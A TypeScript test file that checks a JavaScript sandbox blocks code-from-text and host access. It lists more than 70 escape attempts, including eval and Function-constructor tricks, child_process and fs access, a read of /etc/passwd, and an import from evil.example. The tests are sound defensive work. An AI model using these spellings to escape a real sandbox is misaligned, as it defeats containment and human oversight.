import { beforeAll, describe, expect, it } from "vitest";
import type { Sandbox } from "../../src/core/ports.ts";
import { createSandbox } from "../../src/sandbox/create-sandbox.ts";
import { runIn } from "../unit/sandbox/program-run.ts";

let sandbox: Sandbox;
beforeAll(async () => {
  sandbox = await createSandbox();
});

/** Each tries to run `globalThis.escaped = 1` from text, or to reach what is not the guest's. */
const T = "'globalThis.escaped = 1'";
const spellings: readonly string[] = [
  `eval(${T})`,
  `(0, eval)(${T})`,
  `globalThis.eval(${T})`,
  `globalThis["ev" + "al"](${T})`,
  `eval?.(${T})`,
  `eval.call(null, ${T})`,
  `Reflect.apply(eval, null, [${T}])`,
  `const { eval: e } = globalThis; e(${T})`,
  `[${T}].map(eval)`,
  `Function(${T})()`,
  `new Function(${T})()`,
  `Reflect.construct(Function, [${T}])()`,
  `Function.call(null, ${T})()`,
  `Function.prototype.constructor(${T})()`,
  `(() => {}).constructor(${T})()`,
  `(function () {}).constructor(${T})()`,
  `(class {}).constructor(${T})()`,
  `(async () => {}).constructor(${T})()`,
  `(function* () {}).constructor(${T})().next()`,
  `(async function* () {}).constructor(${T})().next()`,
  `Object.getPrototypeOf(async () => {}).constructor(${T})()`,
  `Object.getPrototypeOf(function* () {}).constructor(${T})().next()`,
  `Object.getPrototypeOf(async function* () {}).constructor(${T})().next()`,
  `({}).toString.constructor(${T})()`,
  `[].map.constructor(${T})()`,
  `"".constructor.constructor(${T})()`,
  `(1).constructor.constructor(${T})()`,
  `/a/.constructor.constructor(${T})()`,
  `Symbol.constructor(${T})()`,
  `Promise.constructor(${T})()`,
  `new Proxy(Function, {})(${T})()`,
  `new Proxy(() => {}, {}).constructor(${T})()`,
  `class F extends Function {}; new F(${T})()`,
  `class F extends (() => {}).constructor { constructor() { super(${T}) } }; new F()()`,
  `Object.create(Function).constructor(${T})()`,
  `console.log.constructor(${T})()`,
  `setTimeout.constructor(${T})()`,
  `tools.crm.get_contacts.constructor(${T})()`,
  `tools.$call.constructor(${T})()`,
  `__cloche_import.constructor(${T})()`,
  `ToolError.constructor(${T})()`,
  `URL.constructor(${T})()`,
  `new URL("https://a.b").constructor.constructor(${T})()`,
  `crypto.getRandomValues.constructor(${T})()`,
  `Object.getOwnPropertyDescriptor(Map.prototype, "size").get.constructor(${T})()`,
  `(() => {}).bind().constructor(${T})()`,
  `(function () { return arguments.callee })().constructor(${T})()`,
  `setTimeout(${T}, 1)`,
  `setInterval(${T}, 1)`,
  `setImmediate(${T})`,
  `queueMicrotask(${T})`,
  `import("data:text/javascript,globalThis.escaped=1")`,
  `import("cloche")`,
  `import("program.js")`,
  `import("/etc/passwd")`,
  `__cloche_import("data:text/javascript,globalThis.escaped=1")`,
  `__cloche_import_async("https://evil.example/x.js")`,
  `require("fs")`,
  `process.binding("fs")`,
  `process.mainModule.require("child_process")`,
  `globalThis.constructor.constructor(${T})()`,
  `new (Object.getPrototypeOf(Object.getPrototypeOf(async function* () {})).constructor)(${T})().next()`,
  `Reflect.getOwnPropertyDescriptor(Function.prototype, "constructor").value(${T})()`,
  `new Worker(${T})`,
  `new WebAssembly.Module(new Uint8Array(8))`,
  `new ShadowRealm().evaluate(${T})`,
  `std.evalScript(${T})`,
  `os.exec(["id"])`,
  `\`\${{ toString: (() => {}).constructor(${T}) }}\``,
  `new Array({ toString() { return eval(${T}) } }).join()`,
];

describe("code from text", () => {
  it(`has no way in, in ${spellings.length} spellings`, async () => {
    expect(spellings.length).toBeGreaterThanOrEqual(60);
    for (const spelling of spellings) {
      const program = `globalThis.escaped = 0; let got; try { got = await (async () => { return ${spelling.replace(/;(?=[^;]*$)/, "; return ")} })() } catch (e) { got = "refused" } await new Promise((r) => setTimeout(r, 3)); [got === "refused" || got === undefined, escaped]`;
      const { outcome, value } = await runIn(
        sandbox,
        spelling.includes(";") ? program.replace("return class", "class").replace("return const", "const") : program,
      );
      expect([spelling, outcome.kind, value]).toEqual([spelling, "value", [true, 0]]);
    }
  });

  it.each([
    ["eval('1')", "eval is not available here. Write the code itself instead of evaluating text."],
    ["new Function('return 1')", "Function is not available here. Write a function expression instead of making one from text."],
    [
      "(async () => {}).constructor('return 1')",
      "AsyncFunction is not available here. Write a function expression instead of making one from text.",
    ],
  ])("%s says what to do instead", async (code, message) => {
    expect((await runIn(sandbox, code)).outcome).toMatchObject({ kind: "threw", fault: { message } });
  });

  it("was removed without breaking what functions are", async () => {
    const code =
      "const f = () => 1; [f instanceof Function, typeof Function, Function.prototype === Object.getPrototypeOf(f), f.constructor === Function, f.call(), (async () => {}).constructor.name, Function.name]";
    expect((await runIn(sandbox, code)).value).toEqual([true, "function", true, true, 1, "AsyncFunction", "Function"]);
  });
});

describe("the guest's world", () => {
  it("holds these globals and no others", async () => {
    const { value } = await runIn(sandbox, "Reflect.ownKeys(globalThis).map(String).sort()");
    for (const name of [
      "SharedArrayBuffer",
      "Atomics",
      "WebAssembly",
      "process",
      "require",
      "module",
      "exports",
      "global",
      "window",
      "self",
      "fetch",
      "XMLHttpRequest",
      "Worker",
      "std",
      "os",
      "scriptArgs",
      "print",
      "gc",
      "host",
    ])
      expect(value).not.toContain(name);
    expect((value as string[]).filter((name) => name.startsWith("__"))).toEqual([
      "__cloche_export",
      "__cloche_import",
      "__cloche_import_async",
    ]);
  });

  it("gives no way to the host's one function", async () => {
    const code = `
      const seen = new Set(), found = [];
      const visit = (value, depth) => {
        if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value) || depth > 12) return;
        seen.add(value);
        if (typeof value === "function" && value.name === "host") found.push("host");
        for (const key of Reflect.ownKeys(value)) {
          let descriptor; try { descriptor = Reflect.getOwnPropertyDescriptor(value, key) } catch { continue }
          for (const part of ["value", "get", "set"]) visit(descriptor?.[part], depth + 1);
        }
        try { visit(Object.getPrototypeOf(value), depth + 1) } catch {}
      };
      visit(globalThis, 0);
      let thrown; try { crm.get_contacts.call.call(1) } catch (e) { thrown = e } visit(thrown, 0);
      [found, seen.size > 500]`;
    expect((await runIn(sandbox, code)).value).toEqual([[], true]);
  });

  it("shows stack traces of the program only, and no way to read others", async () => {
    const code = `
      const traces = [];
      Error.prepareStackTrace = (error, sites) => { traces.push(typeof sites); return sites };
      Error.stackTraceLimit = 1000;
      Error.captureStackTrace?.({});
      let stack; try { __cloche_import("nothing") } catch (e) { stack = e.stack }
      [traces, typeof stack === "string" ? /native|cloche:|engine|file:|node:/.test(stack.replace(/\\(native\\)/g, "")) : "other"]`;
    expect((await runIn(sandbox, code)).value).toEqual([[], false]);
  });
});
